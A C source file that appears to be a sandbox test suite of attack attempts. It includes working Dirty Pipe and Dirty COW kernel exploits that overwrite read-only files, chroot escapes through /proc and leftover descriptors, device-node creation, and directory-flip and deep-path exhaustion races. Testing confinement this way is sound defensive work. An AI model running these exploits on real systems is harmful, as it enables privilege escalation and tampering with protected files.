/* Files of the host and of the image: descriptors that were left, links, devices, page caches. */
#include "tests/attack/attempts/attempt.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

enum { PATH_BYTES = 4096, DESCRIPTORS = 1024, PIPE_BYTES = 65536, RACE_MS = 1500 };

/* Standard input, output and error are a program's own; whatever else is open was left behind. */
static int try_find_descriptors(const char *argument)
{
    int found = 0;
    (void)argument;
    for (int fd = 3; fd < DESCRIPTORS; fd++) {
        char link[64], target[256] = "";
        if (fcntl(fd, F_GETFD) == -1) {
            continue;
        }
        (void)snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        (void)!readlink(link, target, sizeof target - 1);
        attempt_note("%d is %s; ", fd, target);
        found++;
    }
    return found > 0 ? 0 : -EBADF;
}

/* A working directory that lies outside of our root says so. */
static bool is_outside(void)
{
    char path[PATH_BYTES];
    long n = syscall(SYS_getcwd, path, sizeof path);
    return n > 0 && path[0] != '/';
}

static int try_leave_by_descriptor(const char *argument)
{
    static const char *const others[] = {"/proc/1/cwd", "/proc/1/root", "/proc/1/root/..",
                                         "/proc/self/cwd/../../../.."};
    char path[64];
    (void)argument;
    for (int fd = 0; fd < 256; fd++) {
        (void)snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        if (chdir(path) == 0 && is_outside()) {
            attempt_note("%s", path);
            return 0;
        }
        (void)snprintf(path, sizeof path, "/proc/1/fd/%d", fd);
        if (chdir(path) == 0) {
            attempt_note("%s", path);
            return 0;
        }
    }
    for (size_t i = 0; i < sizeof others / sizeof *others; i++) {
        if (chdir(others[i]) == 0 && is_outside()) {
            attempt_note("%s", others[i]);
            return 0;
        }
    }
    return -ENOENT;
}

/* How such a descriptor leads out, where one was left: the control of the attempt above. */
static int try_leave_by_kept_descriptor(const char *argument)
{
    const char *folder = attempt_make_folder();
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    char path[64];
    (void)argument;
    if (!folder || fd == -1 || chroot(folder) == -1 || chdir("/") == -1) {
        return -errno;
    }
    (void)snprintf(path, sizeof path, "%d", fd);
    if (fchdir(fd) == -1) {
        return -errno;
    }
    return is_outside() ? 0 : -ENOENT;
}

static int try_open_write(const char *argument)
{
    return attempt_result(open(argument, O_WRONLY | O_CLOEXEC | O_NONBLOCK));
}

static int try_open_read(const char *argument)
{
    char byte;
    int fd = open(argument, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd == -1) {
        return -errno;
    }
    long n = read(fd, &byte, 1);
    return n == 0 ? -ENODATA : n == -1 && errno == EAGAIN ? 0 : attempt_result(n);
}

/* "c,1,11": the kernel's log; "b,7,0": a disk. Made, and then opened: a node that opens nothing is
 * none. */
static int try_make_device(const char *argument)
{
    char kind = 'c';
    unsigned major_number = 0, minor_number = 0;
    char path[PATH_BYTES];
    const char *folder = attempt_make_folder();
    if (!folder || sscanf(argument, "%c,%u,%u", &kind, &major_number, &minor_number) != 3) {
        return -EINVAL;
    }
    (void)snprintf(path, sizeof path, "%s/device", folder);
    mode_t mode = (kind == 'b' ? S_IFBLK : S_IFCHR) | 0600;
    if (mknod(path, mode, makedev(major_number, minor_number)) == -1) {
        attempt_note("mknod");
        return -errno;
    }
    int r = attempt_result(open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK));
    attempt_note("open");
    (void)unlink(path);
    return r;
}

/* Terminals of others: an instance of devpts that is not ours has them. */
static int try_find_terminals(const char *argument)
{
    DIR *d = opendir("/dev/pts");
    struct dirent *e;
    int found = 0;
    (void)argument;
    while (d && (e = readdir(d))) {
        found += e->d_name[0] >= '0' && e->d_name[0] <= '9';
    }
    if (d) {
        (void)closedir(d);
    }
    attempt_note("%d", found);
    return found > 0 ? 0 : -ENOENT;
}

/* What is in /dev beside the nodes that every program may use. */
static int try_find_devices(const char *argument)
{
    static const char *const usual[] = {".",      "..",      "null", "zero", "full",
                                        "random", "urandom", "tty",  "fd",   "stdin",
                                        "stdout", "stderr",  "ptmx", "pts",  "shm"};
    DIR *d = opendir("/dev");
    struct dirent *e;
    int found = 0;
    (void)argument;
    while (d && (e = readdir(d))) {
        bool is_usual = false;
        for (size_t i = 0; i < sizeof usual / sizeof *usual; i++) {
            is_usual = is_usual || strcmp(usual[i], e->d_name) == 0;
        }
        if (!is_usual) {
            attempt_note("%s ", e->d_name);
            found++;
        }
    }
    if (d) {
        (void)closedir(d);
    }
    return found > 0 ? 0 : -ENOENT;
}

static bool is_readable(int dir, const char *name)
{
    char byte;
    struct stat st;
    int fd = openat(dir, name, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOFOLLOW);
    bool is_file = fd != -1 && fstat(fd, &st) == 0 && S_ISREG(st.st_mode);
    bool is_there = is_file && read(fd, &byte, 1) == 1;
    (void)close(fd);
    return is_there;
}

static void note_readable(const char *path, unsigned depth)
{
    DIR *d = opendir(path);
    struct dirent *e;
    while (d && (e = readdir(d))) {
        char below[PATH_BYTES];
        int n = snprintf(below, sizeof below, "%s/%s", path, e->d_name);
        bool is_process = depth == 0 && e->d_name[0] >= '0' && e->d_name[0] <= '9';
        if (n < 0 || (size_t)n >= sizeof below || e->d_name[0] == '.' || is_process) {
            continue;
        }
        if (e->d_type == DT_DIR && depth < 8 && strcmp(below, "/proc/sys") != 0) {
            note_readable(below, depth + 1);
        } else if (is_readable(dirfd(d), e->d_name)) {
            printf("readable %s\n", below);
        }
    }
    if (d) {
        (void)closedir(d);
    }
}

/* Prints each file below the folder that says something; those of processes and of /proc/sys, whose
 * values everybody may read, are left out. */
static int try_list_readable(const char *argument)
{
    note_readable(argument, 0);
    fflush(stdout);
    return 0;
}

static uint64_t hash_of(const char *path)
{
    uint64_t hash = 14695981039346656037U;
    unsigned char piece[65536];
    ssize_t n;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    while (fd != -1 && (n = read(fd, piece, sizeof piece)) > 0) {
        for (ssize_t i = 0; i < n; i++) {
            hash = (hash ^ piece[i]) * 1099511628211U;
        }
    }
    (void)close(fd);
    return hash;
}

/* Leaves pipe buffers behind that say "may be appended to", puts a page of the file into one, and
 * writes behind it. */
static int try_dirty_pipe(const char *argument)
{
    int ends[2];
    char piece[4096];
    uint64_t before = hash_of(argument);
    int fd = open(argument, O_RDONLY | O_CLOEXEC);
    if (fd == -1 || pipe(ends) == -1) {
        return -errno;
    }
    memset(piece, 'x', sizeof piece);
    for (size_t i = 0; i < PIPE_BYTES / sizeof piece; i++) {
        (void)!write(ends[1], piece, sizeof piece);
    }
    for (size_t i = 0; i < PIPE_BYTES / sizeof piece; i++) {
        (void)!read(ends[0], piece, sizeof piece);
    }
    loff_t offset = 0;
    if (splice(fd, &offset, ends[1], NULL, 1, 0) != 1) {
        return -errno;
    }
    (void)!write(ends[1], "HURT", 4);
    return hash_of(argument) == before ? -EPERM : 0;
}

struct race {
    void *map;
    long long end_ms;
};

static void *drop_pages(void *argument)
{
    const struct race *race = argument;
    while (attempt_now_ms() < race->end_ms) {
        (void)madvise(race->map, 4096, MADV_DONTNEED);
    }
    return NULL;
}

/* Writes through /proc/self/mem to a private mapping, while its pages are dropped. */
static int try_dirty_cow(const char *argument)
{
    uint64_t before = hash_of(argument);
    int fd = open(argument, O_RDONLY | O_CLOEXEC);
    int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (fd == -1 || memory == -1) {
        return -errno;
    }
    struct race race = {mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0),
                        attempt_now_ms() + RACE_MS};
    pthread_t other;
    unsigned rounds = 0;
    if (race.map == MAP_FAILED || pthread_create(&other, NULL, drop_pages, &race) != 0) {
        return -EAGAIN;
    }
    while (attempt_now_ms() < race.end_ms) {
        (void)!pwrite(memory, "HURT", 4, (off_t)(uintptr_t)race.map);
        rounds++;
    }
    (void)pthread_join(other, NULL);
    attempt_note("%u rounds", rounds);
    return hash_of(argument) == before ? -EPERM : 0;
}

/* Directories in each other until the disk's limit, or the time, is up: a path of many megabytes.
 */
static int try_deep_path(const char *argument)
{
    long long end = attempt_now_ms() + strtol(argument, NULL, 10) * 1000;
    const char *folder = attempt_make_folder();
    char name[201];
    unsigned depth = 0;
    int r = folder && chdir(folder) == 0 ? 0 : -errno;
    memset(name, 'd', sizeof name - 1);
    name[sizeof name - 1] = '\0';
    while (r == 0 && attempt_now_ms() < end) {
        r = mkdir(name, 0755) == -1 || chdir(name) == -1 ? -errno : 0;
        depth++;
    }
    attempt_note("%u deep", depth);
    char path[PATH_BYTES];
    r = attempt_result(syscall(SYS_getcwd, path, sizeof path)) == 0 ? 0 : -errno;
    return r == 0 ? 0 : -ENAMETOOLONG;
}

/* "PATH,SECONDS": exchanges a directory and a link again and again. */
static int try_flip(const char *argument)
{
    char link[PATH_BYTES], seconds[PATH_BYTES], folder[PATH_BYTES + 8];
    attempt_split(argument, link, seconds, PATH_BYTES);
    long long end = attempt_now_ms() + strtol(seconds, NULL, 10) * 1000;
    unsigned rounds = 0;
    (void)snprintf(folder, sizeof folder, "%s.other", link);
    while (attempt_now_ms() < end) {
        if (renameat2(AT_FDCWD, link, AT_FDCWD, folder, RENAME_EXCHANGE) == -1) {
            return -errno;
        }
        rounds++;
    }
    attempt_note("%u flips", rounds);
    return 0;
}

const struct attempt file_attempts[] = {
    {"find-descriptors", try_find_descriptors},
    {"leave-by-descriptor", try_leave_by_descriptor},
    {"leave-by-kept-descriptor", try_leave_by_kept_descriptor},
    {"open-write", try_open_write},
    {"open-read", try_open_read},
    {"make-device", try_make_device},
    {"find-terminals", try_find_terminals},
    {"find-devices", try_find_devices},
    {"list-readable", try_list_readable},
    {"dirty-pipe", try_dirty_pipe},
    {"dirty-cow", try_dirty_cow},
    {"deep-path", try_deep_path},
    {"flip", try_flip},
    {NULL, NULL},
};
